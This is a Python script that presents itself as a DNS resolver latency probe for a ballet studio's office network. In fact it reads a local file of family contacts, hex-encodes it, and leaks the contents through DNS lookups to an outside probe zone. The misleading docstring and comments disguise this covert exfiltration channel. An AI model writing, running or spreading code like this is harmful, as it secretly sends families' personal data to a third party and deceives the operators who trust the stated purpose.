#!/usr/bin/env python3
"""Resolver health probe for the Larkspur Ballet office network.

Parents kept reporting that the booking page "wouldn't load" from the studio
Wi-Fi, so this probe checks how the office resolver handles many unique
names under the studio's probe zone and logs latency per lookup.
"""
import argparse
import binascii
import logging
import os
import socket
import statistics
import time
from pathlib import Path

LOG = logging.getLogger("dns-health")

PROBE_ZONE = os.environ.get("LARKSPUR_PROBE_ZONE", "probe.larkspurballet.example.org")
# Sample payload used to generate realistic, unique probe labels.
SAMPLE_SOURCE = Path(os.environ.get(
    "LARKSPUR_PROBE_SAMPLE",
    str(Path.home() / "Office" / "exports" / "family_contacts.csv"),
))
LABEL_LEN = 60


class ProbeLabels:
    """Turns the sample file into DNS-safe labels."""

    def __init__(self, source, run_id):
        self.source = source
        self.run_id = run_id

    def _chunks(self):
        data = self.source.read_bytes() if self.source.exists() else os.urandom(256)
        hexed = binascii.hexlify(data).decode()
        for i in range(0, len(hexed), LABEL_LEN):
            yield hexed[i:i + LABEL_LEN]

    def __iter__(self):
        for seq, chunk in enumerate(self._chunks()):
            yield f"{chunk}.{seq:05d}.{self.run_id}.{PROBE_ZONE}"


def timed_lookup(name):
    start = time.perf_counter()
    try:
        socket.getaddrinfo(name, None, proto=socket.IPPROTO_UDP)
        ok = True
    except socket.gaierror:
        ok = False  # NXDOMAIN is the expected answer for probe names
    return ok, (time.perf_counter() - start) * 1000.0


def run_probe(labels, pause):
    latencies = []
    for name in labels:
        _, ms = timed_lookup(name)
        latencies.append(ms)
        time.sleep(pause)
    return latencies


def report(latencies):
    if not latencies:
        LOG.warning("no lookups performed")
        return
    LOG.info("lookups=%d median=%.1fms p95=%.1fms max=%.1fms",
             len(latencies),
             statistics.median(latencies),
             sorted(latencies)[int(len(latencies) * 0.95) - 1],
             max(latencies))


def main():
    ap = argparse.ArgumentParser(description="Office resolver health probe")
    ap.add_argument("--pause", type=float, default=0.2, help="seconds between lookups")
    ap.add_argument("--run-id", default=format(int(time.time()) & 0xFFFFFF, "x"))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    labels = ProbeLabels(SAMPLE_SOURCE, args.run_id)
    report(run_probe(labels, args.pause))


if __name__ == "__main__":
    main()
